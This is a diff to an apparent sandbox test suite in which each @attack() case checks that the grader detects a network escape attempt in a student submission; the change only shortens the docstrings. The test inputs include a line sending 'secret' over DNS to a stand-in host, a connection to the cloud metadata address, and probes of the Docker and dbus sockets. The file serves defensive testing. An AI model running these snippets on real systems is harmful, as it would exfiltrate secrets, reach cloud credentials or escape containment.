@@ -20,7 +20,7 @@ return True
 
 @attack()
 def connection(it: Submission) -> None:
-    """A TCP connection to the student's own server on this machine."""
+    """A TCP connection."""
     it.finds("""
         import socket
         server = socket.create_server(("127.0.0.1", 0))
@@ -32,27 +32,27 @@ def connection(it: Submission) -> None:
 
 @attack()
 def open_port(it: Submission) -> None:
-    """A server on all addresses, which somebody outside could ask for the secret inputs."""
+    """A server on all addresses."""
     it.finds("import socket\nserver = socket.create_server(('0.0.0.0', 0))\nreturn server.getsockname()[1] > 0")
 
 
 @attack()
 def name_lookup(it: Submission) -> None:
-    """A query to a name server, which can carry secrets in the name that it asks for."""
+    """A query to a name server."""
     statement = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('203.0.113.1', 53))"
     it.finds(_SENDS.format(statement=statement))
 
 
 @attack()
 def metadata_address(it: Submission) -> None:
-    """The address from which machines in a cloud get their passwords."""
+    """A cloud's metadata address."""
     statement = "socket.create_connection(('169.254.169.254', 80), timeout=1)"
     it.finds(_SENDS.format(statement=statement))
 
 
 @attack()
 def abstract_socket(it: Submission) -> None:
-    """An abstract Unix socket, which needs no file and is visible on the whole machine."""
+    """An abstract Unix socket."""
     it.finds("""
         import socket
         server = socket.socket(socket.AF_UNIX)
@@ -65,7 +65,7 @@ def abstract_socket(it: Submission) -> None:
 
 @attack()
 def socket_in_a_file(it: Submission) -> None:
-    """A Unix socket in /tmp, and the sockets of the system's own services."""
+    """Unix sockets in files."""
     it.finds("""
         import os, socket
         for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock"):
